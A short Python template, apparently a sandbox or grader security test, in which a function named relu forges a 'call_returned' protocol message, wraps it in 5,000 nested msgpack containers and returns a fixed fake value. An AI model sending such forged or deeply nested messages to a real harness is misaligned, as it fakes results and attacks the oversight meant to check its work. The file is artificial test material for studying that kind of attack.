import keras
import numpy as np


# {{FORGING}}


def relu(x):
    head = bytes([0x83, 0xA4]) + b"type" + bytes([0xA5]) + b"items" + bytes([0xA9]) + b"container"
    head += bytes([0xA4]) + b"list" + bytes([0xA5]) + b"items" + bytes([0x91])
    body = bytes([0x83, 0xA4]) + b"type" + bytes([0xAD]) + b"call_returned" + bytes([0xA4]) + b"call"
    body += bytes([0x00, 0xA8]) + b"returned" + bytes([0x81, 0xA5]) + b"value"
    to_wire(body + head * 5_000 + bytes([0x81, 0xA4]) + b"type" + bytes([0xA7]) + b"nothing")
    return 12345.0


# {{RIGHT_ANSWERS}}
